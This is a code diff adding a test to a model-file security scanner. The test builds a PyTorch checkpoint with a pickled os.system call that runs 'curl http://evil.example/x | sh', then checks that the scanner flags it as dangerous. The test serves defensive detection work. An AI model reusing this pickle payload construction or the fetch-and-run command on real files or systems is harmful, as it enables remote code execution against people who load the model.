@@ -16,6 +16,8 @@ import {
   padSafetensorsHeader,
   safetensorsHeaderText,
 } from '../builders/safetensors.ts';
+import { payload } from '../builders/pickle.ts';
+import { stateDict, torchZip } from '../builders/torch.ts';
 import {
   DIST_DIR,
   assertDistBuilt,
@@ -376,3 +378,27 @@ describe('scanning in Chromium', () => {
     expectNoNetworkAndNoViolations();
   });
 });
+
+describe('a malicious PyTorch checkpoint', () => {
+  it('shows the dangerous verdict, the call with its argument and offset, and the weights_only refusal', async () => {
+    await openApp();
+    const command = 'curl http://evil.example/x | sh';
+    const bytes = torchZip({ dataPkl: stateDict([], [...payloadParts(command)]) }).bytes();
+    await scanFiles([inputFile('evil.pt', bytes)]);
+    const file = await waitUntilDone('evil.pt');
+    await expect(file.getByTestId('verdict').getAttribute('data-verdict')).resolves.toBe('dangerous');
+    const call = file.locator('[data-testid="finding"][data-rule="pickle.call.dangerous"]').first();
+    await expect(call.getByTestId('finding-evidence').textContent()).resolves.toContain(`os.system("${command}")`);
+    await expect(call.getByTestId('finding-location').textContent()).resolves.toMatch(/offset 0x[0-9A-F]+ \(\d+\)/);
+    await expect(file.getByTestId('weights-only').getAttribute('data-accepted')).resolves.toBe('false');
+    await expect(file.getByTestId('weights-only').textContent()).resolves.toContain('os.system');
+    await expect(file.getByTestId('sha256').textContent()).resolves.toContain(sha256Hex(bytes));
+    expectNoNetworkAndNoViolations();
+  });
+});
+
+/** The body of `payload('os', 'system', command)` without its PROTO and STOP, to run inside a state dict. */
+function payloadParts(command: string): Uint8Array[] {
+  const whole = payload('os', 'system', command);
+  return [whole.subarray(2, whole.length - 1), Uint8Array.of(0x30)]; // then POP: the result is discarded
+}
